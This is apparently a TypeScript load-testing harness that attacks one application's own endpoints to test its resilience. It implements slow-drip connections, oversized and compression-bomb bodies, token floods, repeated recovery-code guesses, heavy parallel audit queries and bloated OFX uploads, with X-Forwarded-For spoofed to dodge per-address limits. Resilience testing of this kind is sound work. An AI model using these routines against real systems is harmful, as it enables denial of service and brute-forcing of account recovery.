// An attacker, as a process of its own: node hostile-load.ts <kind> <address> <token> <command id>. Each request comes
// from an address of its own, as far as X-Forwarded-For is trusted.
import { request } from "node:http"
import { connect } from "node:net"
import { gzipSync } from "node:zlib"

const [kind = "", address = "", token = "", commandId = ""] = process.argv.slice(2)
const { hostname, port, host } = new URL(address)

let sent = 0
const from = (): string => `198.51.${(sent >> 8) % 256}.${(sent += 1) % 256}`

const ask = (path: string, headers: Readonly<Record<string, string>>, body?: string | Buffer): Promise<void> =>
  new Promise((resolve) => {
    const method = body === undefined ? "GET" : "POST"
    const length = body === undefined ? {} : { "Content-Length": String(Buffer.byteLength(body)) }
    const sending = request(
      `${address}${path}`,
      { method, headers: { "X-Forwarded-For": from(), "Content-Type": "application/json", ...length, ...headers } },
      (response) => response.resume().once("close", resolve),
    )
    sending.once("error", () => resolve()).end(body)
  })

const every = (milliseconds: number, work: () => Promise<void>): void =>
  void setInterval(() => void work(), milliseconds)

/** A connection that sends a byte now and then, and is opened again when it is closed. */
const drip = (): void => {
  const socket = connect(Number(port), hostname, () =>
    socket.write(
      `POST /income HTTP/1.1\r\nHost: ${host}\r\nX-Forwarded-For: ${from()}\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n{`,
    ),
  )
  const dripping = setInterval(() => socket.write(" ".repeat(80)), 100)
  socket
    .on("error", () => {})
    .on("data", () => {})
    .once("close", () => {
      clearInterval(dripping)
      setTimeout(drip, 50)
    })
}

const megabyte = 1024 * 1024
const large = JSON.stringify({ username: "a".repeat(megabyte) })
/** A kilobyte that inflates to a megabyte, which takes half a second to parse. */
const inflating = gzipSync("[".repeat(megabyte / 2) + "]".repeat(megabyte / 2))

const bearer = (value: string) => ({ Authorization: `Bearer ${value}` })

/** Eight requests at once, again and again. */
const eight = (work: () => Promise<void>): void => {
  const again = async (): Promise<void> => {
    await work()
    setTimeout(again, 20)
  }
  for (let atOnce = 0; atOnce < 8; atOnce++) void again()
}

/** Accounts with similar ids. */
const accounts = Array.from(
  { length: 4_000 },
  (_, index) =>
    `<STMTTRNRS><STMTRS><CURDEF>USD<BANKACCTFROM><BANKID>1<ACCTID>${"0".repeat(200)}${index}<ACCTTYPE>CHECKING</BANKACCTFROM><BANKTRANLIST><STMTTRN><TRNTYPE>DEBIT<DTPOSTED>20260203<TRNAMT>-1.00<FITID>${index}<NAME>SHOP</STMTTRN></BANKTRANLIST></STMTRS></STMTTRNRS>`,
)
const statement = `OFXHEADER:100\n\n<OFX><BANKMSGSRSV1>${accounts.join("")}</BANKMSGSRSV1></OFX>`
const boundary = "hostile"
const upload = `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="bank.ofx"\r\n\r\n${statement}\r\n--${boundary}--\r\n`

const guess = { username: "nobody", recoveryCode: "aaaa-bbbb-cccc-dddd", passwordOne: "ballast#1852" }
const guessed = JSON.stringify({ ...guess, passwordTwo: guess.passwordOne })

const kinds: Readonly<Record<string, () => void>> = {
  slow: () => Array.from({ length: 100 }).forEach(drip),
  large: () => every(50, () => ask("/auth/authenticate", {}, large)),
  inflating: () => every(125, () => ask("/income", { "Content-Encoding": "gzip" }, inflating)),
  tokens: () => every(5, () => ask("/income", bearer(crypto.randomUUID() + crypto.randomUUID()))),
  exports: () => eight(() => ask("/audit/export", { ...bearer(token), "Accept-Encoding": "gzip" })),
  recoveries: () => every(33, () => ask("/auth/recover", { "X-Forwarded-For": "198.51.100.1" }, guessed)),
  undoes: () => eight(() => ask("/audit/undo", bearer(token), JSON.stringify({ commandId }))),
  states: () => eight(() => ask("/audit/state?at=4000", bearer(token))),
  differences: () => eight(() => ask("/audit/diff?from=10&to=7000", bearer(token))),
  files: () =>
    eight(() =>
      ask("/import/preview", { ...bearer(token), "Content-Type": `multipart/form-data; boundary=${boundary}` }, upload),
    ),
}
kinds[kind]?.()
